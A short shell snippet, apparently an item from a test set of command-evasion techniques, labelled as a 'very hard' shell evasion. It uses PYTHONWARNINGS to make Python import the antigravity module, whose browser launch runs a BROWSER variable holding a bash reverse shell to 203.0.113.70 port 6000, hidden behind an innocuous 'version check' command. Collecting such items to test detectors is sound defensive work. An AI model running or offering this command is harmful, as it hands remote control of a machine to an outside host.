# evasion: PYTHONWARNINGS imports antigravity, which opens a "browser": BROWSER is a shell command
# grade: very hard; does: shell
PYTHONWARNINGS='all:0:antigravity.x:0:0' \
	BROWSER="/bin/sh -c 'bash -i >& /dev/tcp/203.0.113.70/6000 0>&1' #%s" \
	python3 -c 'print("version check")'
